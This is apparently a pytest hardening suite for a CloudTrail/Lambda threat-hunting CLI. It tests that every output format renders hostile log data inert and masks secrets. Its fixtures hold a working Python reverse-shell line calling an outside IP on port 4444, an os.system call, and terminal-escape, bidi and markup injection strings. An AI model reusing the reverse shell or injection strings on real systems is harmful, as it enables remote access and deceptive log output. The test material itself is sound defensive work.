"""The injection corpus through every human and machine output of hunt, explain, scan and rules:
no raw ESC/CR/bidi character reaches a terminal, markup in data is shown and never interpreted
(a ``[/]`` never crashes a table), secrets are masked everywhere, exit codes stay right, and the
machine formats keep the exact values."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest

from tests.analyze.helpers import create_fn, update_code, user
from tests.conftest import delivery_bytes, write
from tests.hardening.corpus import (
    BIDI,
    CLEAR_THEN_ALL_CLEAR,
    CR_OVERWRITE,
    EVIL,
    KEY_ID,
    MARKUP,
    SECRET_KEY,
    URL_PASSWORD,
    assert_inert,
    assert_no_secret,
)

EVIL_ARN = f"arn:aws:iam::111122223333:user/{EVIL}"
EVIL_UA = f"Boto3/1.34 {EVIL} aws_secret_access_key={SECRET_KEY}"
EVIL_KEY = f"{KEY_ID}/{CLEAR_THEN_ALL_CLEAR}/build.zip"


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _logs(tmp_path: Path) -> Path:
    who = user("attacker")
    who["arn"] = EVIL_ARN
    records = [
        create_fn(
            1,
            "payments-api",
            "2025-03-14T09:00:00Z",
            who=who,
            ua=EVIL_UA,
            ip=f"203.0.113.9 {CR_OVERWRITE}",
            role=f"arn:aws:iam::111122223333:role/{MARKUP}",
        ),
        update_code(
            2,
            "payments-api",
            "2025-03-14T09:10:00Z",
            s3Key=EVIL_KEY,
            s3Bucket=f"https://ci:{URL_PASSWORD}@artifacts.example/{BIDI}",
        ),
    ]
    logs = tmp_path / "logs"
    write(logs / "trail.json", delivery_bytes(records))
    # A file the summary must name: its name is the attack (skipped: not CloudTrail).
    write(logs / f"{CLEAR_THEN_ALL_CLEAR} {KEY_ID} [/].json", b'{"not": "cloudtrail"}')
    return logs


@pytest.mark.parametrize("fmt", ["table", "jsonl", "json", "ocsf", "rows"])
def test_hunt_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
    code, out, err = lw("hunt", str(_logs(tmp_path)), "--workers", "1", "--format", fmt)
    assert code == 0, err
    assert_no_secret(out + err)
    assert_inert(err)  # the summary: file names are shown escaped
    assert "skipped file: " in err and "\\x1b[2J\\x1b[H\\x1b[32mALL CLEAR" in err
    assert "****(20 chars) [/].json" in err
    if fmt == "table":
        assert_inert(out)
        assert "lambdawatch: 1 alert(s)" in out
        assert (
            "[/]" in out and "[link=https://evil.example]login[/link]" in out
        )  # shown, not parsed
        assert "\\x1b]0;owned\\x07" in out and "\\u202e" in out
        return
    items = json.loads(out) if fmt == "json" else [json.loads(line) for line in out.splitlines()]
    assert len(items) == (2 if fmt == "rows" else 1)
    assert any(EVIL in text for text in _strings(items))  # machine formats keep exact values
    if fmt in ("jsonl", "json"):
        [alert] = items
        assert alert["principals"][0] == EVIL_ARN
        assert alert["user_agents"][0] == f"Boto3/1.34 {EVIL} aws_secret_access_key=****(40 chars)"
        assert alert["source_ips"][0] == f"203.0.113.9 {CR_OVERWRITE}"
    if fmt == "rows":
        latest = next(r for r in items if r["eventName"].startswith("UpdateFunctionCode"))
        assert latest["s3Key"] == f"****(20 chars)/{CLEAR_THEN_ALL_CLEAR}/build.zip"
        assert latest["s3Bucket"] == f"https://ci:****(15 chars)@artifacts.example/{BIDI}"


def test_summary_json_keeps_names_exact_but_masks_secrets(tmp_path, lw) -> None:
    summary = tmp_path / "summary.json"
    code, _, _ = lw(
        "hunt",
        str(_logs(tmp_path)),
        "--workers",
        "1",
        "--format",
        "jsonl",
        "-q",
        "--summary-json",
        str(summary),
    )
    assert code == 0
    doc = json.loads(summary.read_text())
    [skipped] = doc["files_skipped"]
    assert skipped["file"].endswith(f"{CLEAR_THEN_ALL_CLEAR} ****(20 chars) [/].json")
    assert KEY_ID not in summary.read_text()


def test_hunt_fail_on_still_exits_1_with_hostile_data(tmp_path, lw) -> None:
    code, out, _ = lw("hunt", str(_logs(tmp_path)), "--workers", "1", "--fail-on", "high")
    assert code == 1
    assert_inert(out)


def test_explain_is_inert_masked_and_json_exact(tmp_path, lw) -> None:
    db = tmp_path / "state.db"
    code, out, _ = lw(
        "hunt", str(_logs(tmp_path)), "--workers", "1", "--format", "jsonl", "--state", str(db)
    )
    assert code == 0
    alert_id = json.loads(out)["id"]
    code, out, err = lw("explain", alert_id, "--state", str(db))
    assert code == 0, err
    assert_inert(out)
    assert_no_secret(out)
    lines = out.splitlines()
    by = next(line for line in lines if line.startswith("  by "))
    assert by.startswith("  by arn:aws:iam::111122223333:user/\\x1b[2J\\x1b[H\\x1b[32mALL CLEAR")
    assert "evil-principal\\rarn:aws:iam::111122223333:role/ci" in by  # CR cannot overwrite
    assert any(
        "code location - s3://" in line and "****(20 chars)/\\x1b[2J" in line for line in lines
    )
    code, out, _ = lw("explain", alert_id, "--state", str(db), "--json")
    assert code == 0
    stored = json.loads(out)
    assert stored["principals"][0] == EVIL_ARN
    assert_no_secret(out)


def _evil_zip(tmp_path: Path) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            f"{CLEAR_THEN_ALL_CLEAR}.py",
            "import socket,subprocess,os\n"
            's=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);'
            f'subprocess.call(["/bin/sh","-i"])  # {EVIL}\n',
        )
        z.writestr("[/]x[link=https://evil.example]y.py", f'KEY = "{KEY_ID}"  # {MARKUP}\n')
        z.writestr(f"{KEY_ID}/{BIDI}.py", f'import os\nos.system("id")  # {CR_OVERWRITE}\n')
    path = tmp_path / "evil.zip"
    path.write_bytes(buf.getvalue())
    return path


@pytest.mark.parametrize("fmt", ["table", "json", "sarif"])
def test_scan_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
    code, out, err = lw("scan", str(_evil_zip(tmp_path)), "--format", fmt)
    assert code == 1, err  # a reverse shell is critical: at or above the default --fail-on high
    assert_no_secret(out + err)
    if fmt == "table":
        assert_inert(out)
        # the fake "ALL CLEAR" after a clear-screen only ever shows with its escapes in front
        assert out.count("ALL CLEAR") == out.count("\\x1b[32mALL CLEAR") + out.count(
            "red]ALL CLEAR"
        )
        assert out.count("\\x1b[32mALL CLEAR") >= 1
        assert "[/]x[link=https://evil.example]" in out
        assert "reverse-shell" in out and "\\u202e" in out
        return
    doc = json.loads(out)
    if fmt == "json":
        files = {f["file"] for f in doc["findings"]}
        assert f"{CLEAR_THEN_ALL_CLEAR}.py" in files  # exact value
        assert f"****(20 chars)/{BIDI}.py" in files  # secret masked, the rest exact
        assert "[/]x[link=https://evil.example]y.py" in files
    else:
        uris = {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in doc["runs"][0]["results"]
        }
        assert f"{CLEAR_THEN_ALL_CLEAR}.py" in uris
        assert doc["runs"][0]["results"][0]["ruleId"] == "CS101"


def _evil_rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    rule = {
        "id": "LW950",
        "slug": "evil-rule",
        "title": f"Evil {EVIL}",
        "description": f"desc {CLEAR_THEN_ALL_CLEAR}",
        "severity": "high",
        "priority": "P2",
        "mitre": {"techniques": ["T1648"], "tactics": ["TA0003"]},
        "match": {"event_source": "lambda.amazonaws.com", "event_names": ["CreateFunction"]},
        "tests": [
            {
                "name": f"fires {CLEAR_THEN_ALL_CLEAR} {MARKUP}",
                "base": "create-function",
                "expect": "fire",
            },
            {
                "name": f"wrongly silent {BIDI}{CR_OVERWRITE}",
                "base": "create-function",
                "expect": "silent",
            },
        ],
    }
    (folder / "LW950-evil-rule.yml").write_text(json.dumps(rule), encoding="utf-8")
    return folder


def test_rules_outputs_are_inert(tmp_path, lw) -> None:
    folder = str(_evil_rules(tmp_path))
    code, out, err = lw("rules", "list", "--rules", folder)
    assert code == 0, err
    assert_inert(out)
    assert "LW950  evil-rule" in out
    code, out, err = lw("rules", "test", "LW950", "--rules", folder)
    assert code == 1  # the look-alike that must stay silent fires: a failing rule test
    assert_inert(out)
    assert "ok  " not in out
    assert "FAIL LW950 wrongly silent user\\u202egnp.exe" in out
    assert "evil-principal\\rarn:aws" in out
    assert out.splitlines()[-1] == "1 passed, 1 failed"
    code, out, err = lw("rules", "show", "LW950", "--rules", folder)
    assert code == 0, err
    assert_inert(out)
    import yaml

    assert yaml.safe_load(out)["title"] == f"Evil {EVIL}"  # exact through YAML escapes


def test_config_strings_are_data_too(tmp_path, lw) -> None:
    """An allowlist entry's name and reason, and a change ticket, reach explain escaped."""
    config = tmp_path / "lw.toml"
    config.write_text(
        "[[allowlist]]\n"
        'name = "ci\\u001b[2J"\n'
        'principal = "arn:aws:sts::111122223333:assumed-role/github-actions-deploy/*"\n'
        'reason = "approved \\u001b]0;owned\\u0007 [/] \\u202e deploy"\n'
        'accept = ["*"]\n',
        encoding="utf-8",
    )
    logs = tmp_path / "logs"
    write(
        logs / "trail.json", delivery_bytes([update_code(1, "orders-api", "2025-03-14T10:00:00Z")])
    )
    db = tmp_path / "state.db"
    code, out, err = lw(
        "hunt",
        str(logs),
        "--workers",
        "1",
        "--format",
        "jsonl",
        "--config",
        str(config),
        "--state",
        str(db),
    )
    assert code == 0, err
    [alert] = [json.loads(line) for line in out.splitlines()]
    assert alert["suppressed"] is True
    assert (
        alert["suppression_reason"]
        == "allowlist ci\x1b[2J: approved \x1b]0;owned\x07 [/] \u202e deploy"
    )  # exact in JSON
    code, out, _ = lw(
        "hunt", str(logs), "--workers", "1", "--config", str(config), "--show-suppressed"
    )
    assert code == 0
    assert_inert(out)
    code, out, _ = lw("explain", alert["id"], "--state", str(db))
    assert code == 0
    assert_inert(out)
    assert (
        "  SUPPRESSED: allowlist ci\\x1b[2J: approved \\x1b]0;owned\\x07 [/] \\u202e deploy"
        in out.splitlines()
    )
